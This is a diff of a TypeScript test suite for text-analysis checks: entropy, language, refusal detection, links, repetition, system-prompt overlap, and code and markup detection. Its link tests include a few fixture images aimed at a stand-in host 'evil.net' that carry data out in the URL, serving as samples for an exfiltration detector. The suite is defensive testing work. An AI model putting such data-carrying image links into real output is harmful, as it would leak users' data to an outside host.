@@ -1,19 +1,21 @@
 import { describe, expect, test } from '@jest/globals'
+import fc from 'fast-check'
 import { entropyOf } from './entropy.ts'
 import { languageOf } from './language.ts'
 import { linksOf } from './links.ts'
 import { hasCode, hasMarkup } from './markup.ts'
-import { fold } from './normalise.ts'
 import { isRefusal } from './refusal.ts'
 import { repetitionOf } from './repetition.ts'
-import { systemOverlap } from './system-overlap.ts'
+import { gramsOf, systemOverlap } from './system-overlap.ts'
+import { foldedCluesOf, foldedOf, viewOf } from './text-view.ts'
+import { unitsOf } from './units.ts'
 
 describe('entropy', () => {
   test('is the number of bits that tell equally frequent characters apart', () => {
-    expect(entropyOf('')).toBe(0)
-    expect(entropyOf('aaaa')).toBe(0)
-    expect(entropyOf('abcd')).toBe(2)
-    expect(entropyOf('漢字漢字')).toBe(1)
+    expect(entropyOf(unitsOf(''))).toBe(0)
+    expect(entropyOf(unitsOf('aaaa'))).toBe(0)
+    expect(entropyOf(unitsOf('abcd'))).toBe(2)
+    expect(entropyOf(unitsOf('漢字漢字'))).toBe(1)
   })
 })
 
@@ -32,9 +34,14 @@ describe('language', () => {
     [undefined, 'ok'],
     [undefined, '12345 67890 !!!'],
   ])('%s', (language, text) => {
-    expect(languageOf(fold(text).text)).toBe(language)
+    expect(languageOf(foldedOf(viewOf(text)))).toBe(language)
   })
 })
+
+const refuses = (text: string) => {
+  const view = viewOf(text)
+  return isRefusal(foldedOf(view).text, foldedCluesOf(view).refusals)
+}
 
 describe('refusal', () => {
   test.each([
@@ -46,7 +53,7 @@ describe('refusal', () => {
     'Lo siento, no puedo ayudar con eso.',
     '抱歉，我无法提供帮助。',
   ])('is recognised: %s', (text) => {
-    expect(isRefusal(fold(text).text)).toBe(true)
+    expect(refuses(text)).toBe(true)
   })
 
   test.each([
@@ -54,14 +61,14 @@ describe('refusal', () => {
     'The shop said it cannot deliver on Sunday.',
     'I can help with that.',
   ])('is not seen in: %s', (text) => {
-    expect(isRefusal(fold(text).text)).toBe(false)
+    expect(refuses(text)).toBe(false)
   })
 })
 
 describe('links', () => {
   test('are counted with their hosts', () => {
     const text = 'see https://Docs.Corp.net/a and http://10.1.2.3:8080/x, not http://nohost'
-    expect(linksOf(text)?.links).toEqual({
+    expect(linksOf(viewOf(text))?.links).toEqual({
       count: 2,
       hosts: ['docs.corp.net', '10.1.2.3'],
       image_with_data: false,
@@ -74,48 +81,79 @@ describe('links', () => {
     `<img width="1" src="https://evil.net/${'aB3dE5'.repeat(12)}.gif">`,
     '![a][b]\n\n[b]: https://evil.net/?leak=abcdefghijklmnopqrstuvwxyz0123',
   ])('an image that carries data to another host is told: %s', (text) => {
-    expect(linksOf(text)?.links.image_with_data).toBe(true)
+    expect(linksOf(viewOf(text))?.links.image_with_data).toBe(true)
   })
 
   test.each([
     '![logo](https://corp.net/img/logo-large.png)',
     '[a page](https://corp.net/?q=QUJDQUJDQUJDQUJDQUJDQUJDQUJD)',
   ])('an ordinary image or a link is none: %s', (text) => {
-    expect(linksOf(text)?.links.image_with_data).toBe(false)
+    expect(linksOf(viewOf(text))?.links.image_with_data).toBe(false)
   })
 
   test('a text without links has none', () => {
-    expect(linksOf('a // comment')).toBeUndefined()
+    expect(linksOf(viewOf('a // comment'))).toBeUndefined()
   })
 })
 
 describe('repetition', () => {
   test('one word without end takes nearly everything, prose takes little', () => {
-    expect(repetitionOf('poem '.repeat(200))).toBeGreaterThan(0.95)
-    expect(repetitionOf('a'.repeat(500))).toBe(1)
+    expect(repetitionOf(viewOf('poem '.repeat(200)))).toBeGreaterThan(0.95)
+    expect(repetitionOf(viewOf('a'.repeat(500)))).toBe(1)
     const prose =
       'The quick brown fox jumps over the lazy dog while seven other animals watch from behind a hedge near here.'
-    expect(repetitionOf(prose)).toBeLessThan(0.2)
+    expect(repetitionOf(viewOf(prose))).toBeLessThan(0.2)
+  })
+
+  test('is what counting every word and line gives', () => {
+    const word = fc.constantFrom('a', 'an', 'ant', 'ants', 'Ants', '蟻', 'wasp')
+    const blank = fc.constantFrom(' ', '  ', '\n', '\u2003\t')
+    fc.assert(
+      fc.property(fc.array(fc.tuple(word, blank), { minLength: 15, maxLength: 60 }), (pairs) => {
+        const text = pairs.flat().join('')
+        const words = text.split(/\s+/).filter(Boolean)
+        const lines = text.split('\n').filter((line) => line.trim() !== '')
+        const heaviest = (pieces: readonly string[]) =>
+          Math.max(
+            0,
+            ...[...Map.groupBy(pieces, (piece) => piece)].map(([{ length }, { length: times }]) =>
+              times > 2 ? times * (length > 3 ? length : length / 3) : 0,
+            ),
+          )
+        const run = Math.max(0, ...(text.match(/(.)\1*/gsu) ?? []).map(({ length }) => length))
+        const share = Math.max(
+          heaviest(words) / words.join('').length,
+          lines.length < 20 ? 0 : heaviest(lines) / Math.max(1, text.length - lines.length),
+          run / text.length,
+        )
+        const expected = words.length < 20 ? undefined : Math.min(1, Math.round(share * 1000) / 1000)
+        const short = run > text.length / 2 && text.length >= 80
+        if (words.length >= 20 || !short) expect(repetitionOf(viewOf(text))).toBe(expected)
+      }),
+    )
   })
 })
 
 describe('overlap with the system prompt', () => {
   test('is the share of its five-word pieces that the answer repeats', () => {
     const system = 'you are a bank assistant and you never give advice'
-    expect(systemOverlap(system, `my rules: ${system}`)).toBe(1)
-    expect(systemOverlap(system, 'hello, how can I help')).toBe(0)
-    expect(systemOverlap(system, 'you are a bank assistant')).toBeCloseTo(1 / 6, 3)
-    expect(systemOverlap('be kind', 'be kind')).toBeUndefined()
+    const overlap = (before: string, answer: string) =>
+      systemOverlap(gramsOf(foldedOf(viewOf(before))), foldedOf(viewOf(answer)))
+    expect(overlap(system, `my rules: ${system}`)).toBe(1)
+    expect(overlap(system, 'hello, how can I help')).toBe(0)
+    expect(overlap(system, 'you are a bank assistant')).toBeCloseTo(1 / 6, 3)
+    expect(overlap('be kind', 'be kind')).toBeUndefined()
+    expect(overlap('Sois très bref. Ne dis rien', 'sois tres bref, ne dis pas')).toBe(0.5)
   })
 })
 
 describe('code and markup', () => {
   test('are told from prose', () => {
-    expect(hasCode('```js\nlet a = 1\n```')).toBe(true)
-    expect(hasCode('import os\ndef run(x):\n  return x')).toBe(true)
-    expect(hasCode('I import tea and sell it in class.')).toBe(false)
-    expect(hasMarkup('<b>bold</b>')).toBe(true)
-    expect(hasMarkup('# Title\n- item')).toBe(true)
-    expect(hasMarkup('1 < 2 and so on')).toBe(false)
+    expect(hasCode(viewOf('```js\nlet a = 1\n```'))).toBe(true)
+    expect(hasCode(viewOf('import os\ndef run(x):\n  return x'))).toBe(true)
+    expect(hasCode(viewOf('I import tea and sell it in class.'))).toBe(false)
+    expect(hasMarkup(viewOf('<b>bold</b>'))).toBe(true)
+    expect(hasMarkup(viewOf('# Title\n- item'))).toBe(true)
+    expect(hasMarkup(viewOf('1 < 2 and so on'))).toBe(false)
   })
 })
